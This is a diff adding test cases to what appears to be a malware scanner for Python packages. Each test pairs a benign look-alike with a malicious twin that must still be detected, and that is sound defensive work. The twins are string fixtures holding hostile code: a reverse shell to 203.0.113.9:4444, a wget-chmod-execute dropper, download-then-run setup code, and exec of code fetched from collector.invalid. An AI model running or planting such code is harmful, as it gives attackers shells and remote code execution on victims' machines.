@@ -263,3 +263,185 @@ def test_lookalike_is_clean(name: str) -> None:
         data, filename = wheel_bytes("demo", "1.0", files), wheel_filename("demo", "1.0")
     result = scan(data, ONLY_PYTHON, filename=filename)
     assert result.verdict.level is VerdictLevel.CLEAN, [f.to_dict() for f in result.findings]
+
+
+# --- look-alikes from the top-1000 benign run: each pairs with a malicious twin that must
+# still fire, so a test passes only because the tell-apart works, not because a rule died.
+
+def _rules(kind: str, files: dict[str, str | bytes], options: ScanOptions | None = ONLY_PYTHON
+           ) -> set[str]:
+    if kind == "sdist":
+        data, filename = sdist_bytes("demo", "1.0", files), sdist_filename("demo", "1.0")
+    else:
+        data, filename = wheel_bytes("demo", "1.0", files), wheel_filename("demo", "1.0")
+    result = scan(data, options, filename=filename) if options else scan(data, filename=filename)
+    return {f.rule for f in result.findings}
+
+
+_FD_HANDOFF = ("import os, socket, sys\n"
+               "left, right = socket.socketpair()\n"
+               "if os.fork() == 0:\n"
+               "    os.dup2(right.fileno(), {fd})\n"
+               "    os.execv('/bin/sh', ['/bin/sh', 'worker.sh'])\n")
+
+
+def test_socket_handed_to_fd_3_is_not_a_reverse_shell() -> None:
+    # systemd-style socket activation: the child gets a local socket as fd 3.
+    assert "python.process.reverse-shell" not in _rules(
+        "wheel", {"agent/bridge.py": _FD_HANDOFF.format(fd=3)})
+
+
+def test_connected_socket_on_stdio_is_still_a_reverse_shell() -> None:
+    code = ("import os, socket, pty\n"
+            "s = socket.socket()\ns.connect(('203.0.113.9', 4444))\n"
+            "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\n")
+    assert "python.process.reverse-shell" in _rules("wheel", {"agent/bridge.py": code})
+
+
+_VENDOR = ("import os\n"
+           "os.system('{fetch}')\n"
+           "os.system('tar xf lib-1.0.tar.gz')\n"
+           "os.system('mv lib.h lib.hpp')\n")
+
+
+def test_script_fetching_a_source_tarball_is_not_a_dropper() -> None:
+    rules = _rules("wheel", {"vendor/update_lib.py": _VENDOR.format(
+        fetch="wget https://example.invalid/lib-1.0.tar.gz")})
+    assert "python.network.file-fetch" in rules
+    assert not rules & {"python.flow.download-execute", "python.process.shell-download"}
+
+
+def test_fetch_then_run_in_one_command_is_still_a_dropper() -> None:
+    rules = _rules("wheel", {"vendor/update_lib.py": _VENDOR.format(
+        fetch="wget https://example.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x")})
+    assert "python.process.shell-download" in rules
+
+
+_SETUP_RUNNER = ("import subprocess, sys, urllib.request, io, zipfile\n"
+                 "def call(cmd):\n    return subprocess.call(cmd)\n"
+                 "def fetch_fonts():\n"
+                 "    raw = urllib.request.urlopen('https://example.invalid/fonts.zip').read()\n"
+                 "    with open('{target}', 'wb') as out:\n        out.write(raw)\n"
+                 "def main():\n    if 'test' in sys.argv:\n"
+                 "        call([sys.executable, '{script}'])\n"
+                 "    fetch_fonts()\n"
+                 "main()\n")
+
+
+def test_helper_running_own_test_script_is_not_download_execute() -> None:
+    rules = _rules("sdist", {"setup.py": _SETUP_RUNNER.format(target="fonts/a.pfb",
+                                                              script="runtests.py")})
+    assert "python.flow.download-execute" not in rules
+    assert "python.process.spawn" not in rules
+
+
+def test_helper_running_the_downloaded_script_is_download_execute() -> None:
+    rules = _rules("sdist", {"setup.py": _SETUP_RUNNER.format(target="stage.py",
+                                                              script="stage.py")})
+    assert "python.flow.download-execute" in rules
+
+
+_PROVISION = ("import hashlib, os, subprocess, urllib.request\n"
+              "def download(url, dest):\n    urllib.request.urlretrieve(url, dest)\n"
+              "def fetch_tool(url, dest):\n    download(url, dest)\n{verify}"
+              "    os.chmod(dest, 0o755)\n"
+              "def run_tool(path, args):\n    return subprocess.run([path] + args)\n")
+_CHECK = ("    digest = hashlib.sha256(open(dest, 'rb').read()).hexdigest()\n"
+          "    if digest != PINNED:\n        raise SystemExit('checksum mismatch')\n")
+
+
+def test_checksum_pinned_tool_download_is_provisioning() -> None:
+    rules = _rules("wheel", {"build/provision.py": _PROVISION.format(verify=_CHECK)})
+    assert "python.flow.download-execute" not in rules
+
+
+def test_unverified_tool_download_is_download_execute() -> None:
+    rules = _rules("wheel", {"build/provision.py": _PROVISION.format(verify="")})
+    assert "python.flow.download-execute" in rules
+
+
+_MIRROR = ("import subprocess, tempfile, os\n"
+           "def mirror(url):\n"
+           "    path = os.path.join(tempfile.mkdtemp(), 'archive.tar.gz')\n"
+           "    subprocess.run(['curl', url, '-o', path], check=True)\n"
+           "    subprocess.run({run}, check=True)\n")
+
+
+def test_fetch_then_named_tool_in_one_function_is_not_download_execute() -> None:
+    rules = _rules("wheel", {"tools/mirror.py": _MIRROR.format(
+        run="['gcloud', 'storage', 'cp', 'x', 'gs://bucket/']")})
+    assert "python.flow.download-execute" not in rules
+
+
+def test_fetch_then_run_fetched_path_is_download_execute() -> None:
+    rules = _rules("wheel", {"tools/mirror.py": _MIRROR.format(run="[path]")})
+    assert "python.flow.download-execute" in rules
+
+
+def test_annotated_build_command_is_a_build_tool() -> None:
+    setup = ("import subprocess, shutil\nfrom setuptools import setup\n"
+             "from setuptools.command.build_ext import build_ext\n"
+             "class Build(build_ext):\n    def run(self):\n"
+             "        cmd: list[str] = ['cargo', 'build', '--release']\n"
+             "        subprocess.run(cmd, check=True)\n"
+             "        objcopy: str | None = shutil.which('objcopy')\n"
+             "        subprocess.run([objcopy, '--only-keep-debug', 'a.so', 'a.debug'])\n"
+             "setup(name='x', cmdclass={'build_ext': Build})\n")
+    assert "python.process.spawn" not in _rules("sdist", {"setup.py": setup})
+
+
+def test_tiny_gzip_fixture_under_py_name_is_not_a_disguised_archive() -> None:
+    import gzip
+    import os as _os
+    tiny = gzip.compress(b"test()\n")
+    big = gzip.compress(_os.urandom(4096))
+    assert "binary.archive.misnamed" not in _rules("sdist", {"examples/fixture.py": tiny},
+                                                   None)
+    assert "binary.archive.misnamed" in _rules("sdist", {"examples/fixture.py": big}, None)
+
+
+def _install_rules(files: dict[str, str]) -> set[str]:
+    data = sdist_bytes("demo", "1.0", files)
+    result = scan(data, ONLY_PYTHON, filename=sdist_filename("demo", "1.0"))
+    return {f.rule for f in result.findings if str(f.context) == "install"}
+
+
+_IMPORTED_AT_SETUP = {
+    "setup.py": "from setuptools import setup\nimport demo\n"
+                "setup(name='demo', version=demo.VERSION)\n",
+    "demo/__init__.py": "import demo.net\nfrom demo.config import Conf\nVERSION = '1.0'\n"
+                        "conf = Conf()\n",
+    "demo/config.py": "class Conf:\n    def __init__(self):\n        self.debug = False\n",
+    "demo/net.py": "import socket\nclass Probe:\n    def __init__(self, host):\n"
+                   "        self.s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                   "        self.s.sendto(b'q', (host, 53))\n",
+}
+
+
+def test_install_helpers_run_the_constructor_of_the_class_built_not_every_init() -> None:
+    """Calls made at install name the functions of other install files by their last name part,
+    but a constructor by its class: building one Conf at install must not make every class's
+    __init__ in the package install-time code (scapy's setup.py imports the package)."""
+    from scanner.analyzers.python import _entry_name
+
+    assert _entry_name("Conf.__init__") == "Conf.__init__"
+    assert _entry_name("config.Conf.__init__") == "Conf.__init__"
+    assert _entry_name("helpers.run") == "run"
+    assert not _install_rules(_IMPORTED_AT_SETUP)
+
+
+def test_a_class_instantiated_at_install_runs_at_install() -> None:
+    files = dict(_IMPORTED_AT_SETUP)
+    files["demo/net.py"] += "Probe('collector.invalid')\n"
+    assert {"python.network.socket", "score.chain.install-network"} <= _install_rules(files)
+
+
+def test_python2_exec_of_a_local_file_is_not_remote_code() -> None:
+    """The token fallback (for Python 2 and unparseable files): ``exec compile(open(f).read()
+    ...)`` runs a local file; a ``.read()`` of anything else may be a download."""
+    from scanner.analyzers.python.tokens import _LINE_RULES
+
+    [remote] = [pattern for pattern, rule, _ in _LINE_RULES if rule == "python.exec.remote-code"]
+    assert not remote.search("    exec compile(open(fname).read(), fname, 'exec') in glob, loc")
+    assert remote.search("exec urllib2.urlopen('http://collector.invalid/x').read()")
+    assert remote.search("exec(response.read())")
